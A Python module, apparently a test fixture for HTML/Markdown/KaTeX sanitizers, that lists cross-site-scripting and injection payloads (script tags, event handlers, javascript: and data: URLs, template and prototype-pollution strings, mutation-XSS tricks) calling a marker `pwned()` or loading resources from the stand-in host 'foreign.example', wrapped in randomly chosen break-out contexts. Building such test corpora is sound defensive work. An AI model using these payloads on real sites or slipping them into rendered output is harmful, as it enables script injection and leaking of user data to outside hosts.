"""Text that would do something if it were taken for anything but text: what does it, in what it may stand.

Each calls `pwned()`, asks HOST for something, or leaves an element with the attribute `data-pwned` behind.
"""

import random
from itertools import cycle, islice

HOST = "foreign.example"
_RUN = "pwned()"
HTML = [
    f"<script data-pwned>{_RUN}</script>",
    f"<script data-pwned src=//{HOST}/x.js></script>",
    f"<img data-pwned src=x onerror={_RUN}>",
    f"<img data-pwned src=//{HOST}/x.png>",
    f"<img/data-pwned/src=x/onerror={_RUN}//",
    f"<iMg dAta-pwned SRC=x OnErRoR=\"{_RUN}\">",
    f"<iframe data-pwned src=javascript:parent.{_RUN}></iframe>",
    f"<iframe data-pwned srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data-pwned data=//{HOST}/x></object>",
    f"<embed data-pwned src=//{HOST}/x>",
    f"<body data-pwned onload={_RUN}>",
    f"<details data-pwned open ontoggle={_RUN}>x</details>",
    f"<input data-pwned autofocus onfocus={_RUN}>",
    f"<video data-pwned><source onerror={_RUN} src=x></video>",
    f"<audio data-pwned src=//{HOST}/x.ogg autoplay>",
    f"<form data-pwned action=//{HOST}/ id=f><input name=csrfmiddlewaretoken></form>",
    f"<meta data-pwned http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<link data-pwned rel=stylesheet href=//{HOST}/x.css>",
    f"<link data-pwned rel=preload as=image href=//{HOST}/x.png>",
    f"<base data-pwned href=//{HOST}/>",
    f"<style data-pwned>@import url(//{HOST}/x.css);*{{background:url(//{HOST}/x)}}</style>",
    f"<p data-pwned style='background:url(//{HOST}/x);position:fixed;inset:0'>x</p>",
    f"<a data-pwned href='javascript:{_RUN}'>x</a>",
    f"<template data-pwned><script>{_RUN}</script></template>",
    f"<math data-pwned><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<noscript data-pwned><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<div data-pwned hx-get=//{HOST}/ hx-trigger=load hx-on::load={_RUN}></div>",
    f"<div data-pwned data-confirm data-copy='{_RUN}' data-shortcut=x></div>",
]  # fmt: skip
SVG = [
    f"<svg data-pwned onload={_RUN}>",
    f"<svg data-pwned><script>{_RUN}</script></svg>",
    f"<svg data-pwned><script href=//{HOST}/x.js /></svg>",
    f"<svg data-pwned><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg data-pwned><image href=//{HOST}/x.png /></svg>",
    f"<svg data-pwned><use href=//{HOST}/x.svg#a /></svg>",
    f"<svg data-pwned><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg data-pwned><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg data-pwned><style>@import url(//{HOST}/x.css)</style></svg>",
    f"<svg data-pwned><set attributeName=onmouseover to={_RUN} /></svg>",
]
MARKDOWN = [
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt:{_RUN})",
    f"[x](java&#x09;script:{_RUN})",
    f"[x](&#106;avascript:{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"[x](vbscript:{_RUN})",
    f"[x][r]\n\n[r]: javascript:{_RUN} 'title'",
    f"<javascript:{_RUN}>",
    f"![x](//{HOST}/x.png)",
    f"![x](https://{HOST}/x.png 'a\" onload=\"{_RUN}')",
    f"![x](x\" onerror=\"{_RUN})",
    f"[x](x\"onmouseover=\"{_RUN}\"data-pwned=\")",
    f"```\"><img data-pwned src=x onerror={_RUN}>\nx\n```",
    f"| a |\n| :-\" data-pwned onload={_RUN}: |\n| b |",
    f"# x {{data-pwned onclick={_RUN}}}",
]  # fmt: skip
KATEX = [
    rf"$\href{{javascript:{_RUN}}}{{x}}$",
    rf"\(\url{{javascript:{_RUN}}}\)",
    rf"$\includegraphics{{//{HOST}/x.png}}$",
    r"$\htmlData{pwned=1}{x}$",
    r"$\htmlClass{pwned}{x}$ \(\htmlId{pwned}{x}\)",
    rf"$\htmlStyle{{background:url(//{HOST}/x)}}{{x}}$",
    rf"$\text{{<img data-pwned src=x onerror={_RUN}>}}$",
    rf"\[\text{{</span><script data-pwned>{_RUN}</script>}}\]",
    rf"$\def\x{{<svg data-pwned onload={_RUN}>}}\x$",
    rf"$\color{{red;background:url(//{HOST}/x)}}x$",
    rf"$\verb|<img data-pwned src=x onerror={_RUN}>|$",
    rf"$\nosuch{{\"><img data-pwned src=x onerror={_RUN}>}}$",
    rf"$\rule{{1em}}{{1em\" data-pwned onload={_RUN}}}$",
    rf"$\unicode{{x3c}}img data-pwned src=x onerror={_RUN}\unicode{{x3e}}$",
    r"$\gdef\x#1{\x{#1}}\x{a}$ <b data-pwned>",
]
SCRIPTS = [
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"</script><script data-pwned>{_RUN}</script>",
    f"\\u003cscript data-pwned\\u003e{_RUN}\\u003c/script\\u003e",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{% debug %}}{{{{ {_RUN} }}}}",
    f"javascript:{_RUN}",
    f"data:text/html,<script data-pwned>{_RUN}</script>",
    f"\u2028{_RUN}\u2029",
    f"__proto__[onload]={_RUN}",
    f"%3Cscript data-pwned%3E{_RUN}%3C/script%3E",
    f"&lt;img data-pwned src=x onerror={_RUN}&gt;",
    f"&amp;lt;script data-pwned&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
]
# What may stand around it, and would end what the page has begun there.
AROUND = [
    "{}", '">{}', "'>{}", '"{}"', "' {} '", "--><!-->{}", "<!--{}-->", "]]>{}", "<![CDATA[{}]]>",
    "</textarea>{}", "</title>{}", "</script>{}", "</style>{}", "</option></select>{}", "</svg>{}", "</template>{}",
    "</td></tr></table>{}", "</button></form>{}", "${}$", "\\({}\\)", "$$\n{}\n$$", "`{}`", "```\n{}\n```",
    "    {}", "[{}](x)", "![{}](x)", "> {}", "- {}", "# {}", "| {} |\n| - |\n| {} |", "a\n\n{}\n\nb", "\u202e{}\u202c",
]  # fmt: skip


def payloads(count: int, chance: random.Random) -> list[str]:
    """So many, every vector as often as the others, each in a surrounding that chance chooses."""
    vectors = [*HTML, *SVG, *MARKDOWN, *KATEX, *SCRIPTS]
    order = cycle(chance.sample(vectors, len(vectors)))
    return [chance.choice(AROUND).replace("{}", vector) for vector in islice(order, count)]
